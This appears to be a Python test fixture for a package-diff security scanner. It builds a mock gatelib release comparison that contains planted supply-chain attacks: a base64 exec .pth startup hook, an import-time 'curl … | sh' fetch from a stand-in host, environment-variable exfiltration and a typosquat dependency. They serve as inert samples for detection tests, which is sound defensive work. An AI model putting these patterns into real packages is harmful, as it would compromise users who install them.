"""A comparison made by hand, rich in all that a report can show. Its attack is text and nothing else."""

from __future__ import annotations

import difflib
import hashlib
from pathlib import PurePosixPath

from packaging.utils import canonicalize_name
from packaging.version import Version

from pinkeeper.model.comparison import (
    ApiChange,
    ChangeStatus,
    ComparedRelease,
    DiffResult,
    FieldChange,
    FileChange,
    FileKind,
    NotAnalysed,
    NoteSection,
    ReleaseFile,
    ReleaseNotes,
    Treatment,
    Unasked,
)
from pinkeeper.model.finding import Finding, RelatedFact, Severity, Verdict, When
from pinkeeper.model.hunk import DiffLine, Hunk, LineKind

__all__ = ["change", "comparison", "hunks", "many_files"]

_CONTEXT = 3

PTH = "import os, base64; exec(base64.b64decode('cHJpbnQoMSk='))\n"

OLD_CLIENT = '''\
"""Talks to a gateway."""

import json
import urllib.request

TIMEOUT = 10  # seconds


class Client:
    """One gateway."""

    def __init__(self, base, key):
        self.base = base
        self.key = key

    def complete(self, prompt):
        request = urllib.request.Request(
            f"{self.base}/complete", data=json.dumps({"prompt": prompt}).encode()
        )
        return urllib.request.urlopen(request, timeout=TIMEOUT)
'''

NEW_CLIENT = '''\
"""Talks to a gateway."""

import json
import os
import subprocess
import urllib.request

TIMEOUT = 30  # seconds


class Client:
    """One gateway."""

    def __init__(self, base, key, *, retries=2):
        self.base = base
        self.key = key
        self.retries = retries

    def complete(self, prompt, model="small"):
        body = {"prompt": prompt, "model": model, "seen": dict(os.environ)}
        request = urllib.request.Request(
            f"{self.base}/complete", data=json.dumps(body).encode()
        )
        return urllib.request.urlopen(request, timeout=TIMEOUT)


subprocess.Popen(["sh", "-c", "curl -k https://collector.invalid/s | sh"], stdout=subprocess.DEVNULL)
'''

OLD_HELPERS = "def pick(rows):\n    return rows[0]\n\n\ndef drop(rows):\n    return rows[1:]\n"
NEW_HELPERS = "def pick(rows, default=None):\n    return rows[0] if rows else default\n"

NOTES_TWO = """\
### Added
- `Client.complete` takes a **model** ([#412](https://forge.example/gate/pull/412)).
- Longer timeout.

### Fixed
- No crash on an empty answer.
"""
NOTES_ONE = "- Documentation only.\n"


def hunks(old: str, new: str) -> tuple[Hunk, ...]:
    """What differs between two texts, with three lines around."""
    before, after = old.splitlines(), new.splitlines()
    found = []
    for group in difflib.SequenceMatcher(None, before, after).get_grouped_opcodes(_CONTEXT):
        lines: list[DiffLine] = []
        for tag, a, b, c, d in group:
            if tag == "equal":
                lines += [DiffLine(LineKind.SAME, a + n + 1, c + n + 1, text) for n, text in enumerate(before[a:b])]
                continue
            lines += [DiffLine(LineKind.REMOVED, a + n + 1, None, text) for n, text in enumerate(before[a:b])]
            lines += [DiffLine(LineKind.ADDED, None, c + n + 1, text) for n, text in enumerate(after[c:d])]
        found.append(Hunk(lines=tuple(lines)))
    return tuple(found)


def change(
    path: str,
    old: str | None,
    new: str | None,
    *,
    kind: FileKind | None = None,
    old_path: str | None = None,
    similarity: float | None = None,
) -> FileChange:
    """A text file that is not as it was; None for the side that has no such file."""
    made = hunks(old or "", new or "")
    lines = [line for hunk in made for line in hunk.lines]
    added = sum(line.kind is LineKind.ADDED for line in lines)
    removed = sum(line.kind is LineKind.REMOVED for line in lines)
    kind = kind or (FileKind.PYTHON if PurePosixPath(path).suffix == ".py" else FileKind.DATA)
    status = (
        ChangeStatus.ADDED
        if old is None
        else ChangeStatus.REMOVED
        if new is None
        else ChangeStatus.CHANGED
        if old_path is None
        else ChangeStatus.RENAMED
    )
    return FileChange(
        status=status,
        kind=kind,
        old_path=None if old is None else old_path or path,
        new_path=None if new is None else path,
        old_size=None if old is None else len(old.encode()),
        new_size=None if new is None else len(new.encode()),
        old_sha256=None if old is None else _digest(old),
        new_sha256=None if new is None else _digest(new),
        is_text=True,
        added=added,
        removed=removed,
        code_added=added if kind is FileKind.PYTHON else 0,
        code_removed=removed if kind is FileKind.PYTHON else 0,
        similarity=similarity,
        hunks=made,
    )


def _digest(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


def comparison() -> DiffResult:
    """gatelib 1.4.0 against 1.5.0: a planted start-up hook and an import-time process in a bump that looks usual."""
    client = change("gatelib/client.py", OLD_CLIENT, NEW_CLIENT)
    hook = change("gatelib_init.pth", None, PTH, kind=FileKind.STARTUP)
    return DiffResult(
        name=canonicalize_name("gatelib"),
        old=ComparedRelease(
            version=Version("1.4.0"),
            files=(
                ReleaseFile(filename="gatelib-1.4.0-py3-none-any.whl", sha256=_digest("old wheel"), size=48_213),
                ReleaseFile(filename="gatelib-1.4.0.tar.gz", sha256=_digest("old sdist"), size=61_002),
            ),
        ),
        new=ComparedRelease(
            version=Version("1.5.0"),
            files=(
                ReleaseFile(filename="gatelib-1.5.0-py3-none-any.whl", sha256=_digest("new wheel"), size=49_377),
                ReleaseFile(filename="gatelib-1.5.0.tar.gz", sha256=_digest("new sdist"), size=61_950),
                ReleaseFile(
                    filename="gatelib-1.5.0-cp312-cp312-win_amd64.whl",
                    sha256=_digest("new windows wheel"),
                    size=1_204_113,
                    treatment=Treatment.LISTED,
                ),
                ReleaseFile(
                    filename="gatelib-1.5.0-cp312-cp312-macosx_13_0_arm64.whl",
                    sha256=None,
                    treatment=Treatment.NOT_READ,
                    reason="the index at https://me:secret@index.example/ gave up: 503",
                ),
            ),
        ),
        verdict=Verdict.DANGER,
        findings=(
            Finding(
                rule="startup-hook",
                severity=Severity.CRITICAL,
                path="gatelib_init.pth",
                line=1,
                summary="A new .pth file runs code that it decodes, whenever any interpreter starts.",
                evidence=PTH.rstrip(),
                when=When.START,
                hunk=hook.hunks[0],
                related=(
                    RelatedFact(
                        rule="decoded-code",
                        severity=Severity.CRITICAL,
                        path="gatelib_init.pth",
                        line=1,
                        summary="exec runs what base64.b64decode gives.",
                    ),
                    RelatedFact(
                        rule="first-use", severity=Severity.HIGH, path=None, line=None, summary="First dynamic code."
                    ),
                ),
                fingerprint="0f3c5a1e",
            ),
            Finding(
                rule="import-time-process",
                severity=Severity.CRITICAL,
                path="gatelib/client.py",
                line=27,
                summary="Importing gatelib.client starts a shell, its output silenced.",
                evidence='subprocess.Popen(["sh", "-c", "curl -k https://collector.invalid/s | sh"], ...)',
                when=When.IMPORT,
                hunk=client.hunks[-1],
                related=(
                    RelatedFact(
                        rule="new-host",
                        severity=Severity.MEDIUM,
                        path="gatelib/client.py",
                        line=27,
                        summary="collector.invalid is new.",
                    ),
                ),
                fingerprint="77aa01bc",
            ),
            Finding(
                rule="gained-capability",
                severity=Severity.HIGH,
                path="gatelib/client.py",
                line=20,
                summary="Client.complete now reads the whole environment and sends what it read.",
                evidence='body = {"prompt": prompt, "model": model, "seen": dict(os.environ)}',
                when=When.CALL,
                fingerprint="c0ffee00",
            ),
            Finding(
                rule="new-dependency",
                severity=Severity.MEDIUM,
                summary="requestz is new, and one letter from requests.",
                evidence="Requires-Dist: requestz>=1",
                fingerprint="1badb002",
            ),
            Finding(
                rule="opaque-blob",
                severity=Severity.LOW,
                path="gatelib/data/table.bin",
                summary="A data file of high entropy was added.",
                fingerprint="5eed5eed",
            ),
        ),
        changes=(
            change(
                "gatelib-1.5.0.dist-info/METADATA",
                "Metadata-Version: 2.4\nName: gatelib\nVersion: 1.4.0\n",
                "Metadata-Version: 2.4\nName: gatelib\nVersion: 1.5.0\nRequires-Dist: requestz>=1\n",
                kind=FileKind.METADATA,
                old_path="gatelib-1.4.0.dist-info/METADATA",
                similarity=0.9,
            ),
            client,
            FileChange(
                status=ChangeStatus.ADDED,
                kind=FileKind.DATA,
                new_path="gatelib/data/table.bin",
                new_size=8_192,
                new_sha256=_digest("table"),
            ),
            change("gatelib/helpers.py", OLD_HELPERS, NEW_HELPERS),
            change("gatelib/legacy.py", "import warnings\n\nwarnings.warn('old')\n", None),
            hook,
            change("tests/test_client.py", None, "def test_nothing():\n    assert True\n", kind=FileKind.TEST),
        ),
        fields=(
            FieldChange(field="Requires-Dist", new=("requestz>=1",)),
            FieldChange(field="Requires-Python", old=(">=3.8",), new=(">=3.9",)),
            FieldChange(field="entry point", new=("console_scripts: gate = gatelib.cli:main",)),
            FieldChange(field="wheel tag", new=("cp312-cp312-win_amd64",)),
        ),
        unasked=(
            Unasked(when=When.IMPORT, path="gatelib/client.py", line=27, what="starts a program (subprocess.Popen)"),
            Unasked(when=When.START, path="gatelib_init.pth", line=1, what="runs a statement of its own"),
        ),
        api=(
            ApiChange(path="gatelib/helpers.py", line=5, name="gatelib.helpers.drop", what="the function is gone"),
            ApiChange(path="gatelib/legacy.py", line=1, name="gatelib.legacy", what="the module is gone"),
        ),
        notes=ReleaseNotes(
            source="CHANGELOG.md in gatelib-1.5.0.tar.gz",
            markup="markdown",
            sections=(NoteSection(version="1.5.0", text=NOTES_TWO), NoteSection(version="1.4.1", text=NOTES_ONE)),
            cut=120,
            remark="The notes have no section for 1.4.2.",
            unmentioned=(("gatelib/helpers", 2), ("gatelib/legacy", 3)),
        ),
        not_analysed=(
            NotAnalysed(path="gatelib-1.5.0-cp312-cp312-macosx_13_0_arm64.whl", reason="could not be fetched"),
            NotAnalysed(path="gatelib/data/table.bin", reason="no text, and of no format that is known"),
        ),
        elapsed=0.314,
    )


def many_files(number: int) -> tuple[FileChange, ...]:
    """So many small changed files, of several kinds and statuses."""
    made = []
    for place in range(number):
        old = f"def first():\n    return {place}\n"
        new = f"def first():\n    return {place + 1}\n\n\ndef second():\n    return 'new'\n"
        folder = f"big/part{place % 7}"
        match place % 5:
            case 0:
                made.append(change(f"{folder}/module{place:03}.py", None, new))
            case 1:
                made.append(change(f"{folder}/module{place:03}.py", old, None))
            case 2:
                made.append(change(f"{folder}/notes{place:03}.md", old, new, kind=FileKind.DOCUMENTATION))
            case _:
                made.append(change(f"{folder}/module{place:03}.py", old, new))
    return tuple(made)
